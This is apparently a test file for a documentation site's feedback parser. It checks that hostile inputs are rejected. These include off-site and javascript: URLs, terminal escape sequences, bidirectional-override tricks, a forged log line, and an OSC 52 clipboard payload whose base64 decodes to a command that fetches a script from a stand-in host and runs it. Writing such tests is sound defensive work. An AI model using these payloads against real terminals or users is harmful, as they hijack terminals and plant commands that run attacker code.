/**
 * What a feedback submission may hold, as the one parse that POST /feedback
 * and MCP's send_feedback share checks it: a page of this site, no control
 * or bidirectional character in any field, no unknown key.
 */
import {describe, expect, it} from 'vitest';
import {parseFeedback, sitePath} from '../../lib/feedback/input';

const refused = (value: unknown) => {
  const result = parseFeedback(value);
  expect(result.ok, JSON.stringify(value)).toBe(false);
  return (result as {problem: string}).problem;
};

describe('a feedback submission', () => {
  it('names a page of this site, by path or URL, and is stored as its path', () => {
    expect(parseFeedback({page: '/api/overview', helpful: true})).toEqual({ok: true, input: {page: '/api/overview', helpful: true}});
    expect(parseFeedback({page: 'https://docs.vigil.example/api/overview?x=1#top', comment: ' Fine. '})).toEqual({
      ok: true,
      input: {page: '/api/overview', comment: 'Fine.'},
    });
    for (const page of [
      'https://evil.example/api',
      '//evil.example/api',
      '/\\evil.example',
      'javascript:alert(1)',
      'api/overview',
      'http://docs.vigil.example/x',
    ]) {
      expect(refused({page, helpful: true})).toMatch(/^page: must be a path of this site/);
    }
  });

  it('is under the base path when the site has one', () => {
    expect(sitePath('/docs/api', {siteUrl: 'https://example.com', baseUrl: '/docs/'})).toEqual({path: '/docs/api'});
    expect(sitePath('/api', {siteUrl: 'https://example.com', baseUrl: '/docs/'})).toHaveProperty('problem');
  });

  it.each([
    ['ESC (clear the screen)', '\u001b[2J'],
    ['BEL ending an OSC 0 title', '\u001b]0;owned\u0007'],
    ['OSC 52 (write the clipboard)', '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u001b\\'],
    ['OSC 8 (a hyperlink)', '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\'],
    ['C1 CSI', '\u009b2J'],
    ['DEL', 'a\u007fb'],
    ['carriage return', 'a\rb'],
    ['right-to-left override', 'txt.\u202eexe'],
    ['left-to-right isolate', '\u2066x'],
    ['right-to-left mark', '\u200f'],
    ['Arabic letter mark', '\u061c'],
  ])('refuses %s in every field with a 400 naming it', (_, text) => {
    expect(refused({page: '/api/overview', comment: `Look: ${text}`})).toMatch(
      /^comment: holds the control character U\+[0-9A-F]{4} at character \d+; control and bidirectional characters are refused$/,
    );
    expect(refused({page: `/api/${text}`, helpful: true})).toMatch(/^page: holds the control character U\+/);
  });

  it('takes a line break in a comment, as a text area gives it, but never in a page', () => {
    expect(parseFeedback({page: '/api/overview', comment: 'First line\nSecond line'})).toMatchObject({ok: true});
    expect(refused({page: '/api/overview\n    9     9        9  /forged', helpful: true})).toMatch(/^page: holds the control character U\+000A/);
  });

  it('refuses an unknown key, a wrong type and an empty submission', () => {
    expect(refused({page: '/api/overview', helpful: true, admin: true})).toContain('admin');
    expect(refused({page: '/api/overview', helpful: 'very'})).toMatch(/^helpful:/);
    expect(refused({page: '/api/overview'})).toContain('give `helpful`, a `comment`, or both');
    expect(refused({page: '/api/overview', comment: 'a'.repeat(1001)})).toMatch(/^comment:/);
  });
});
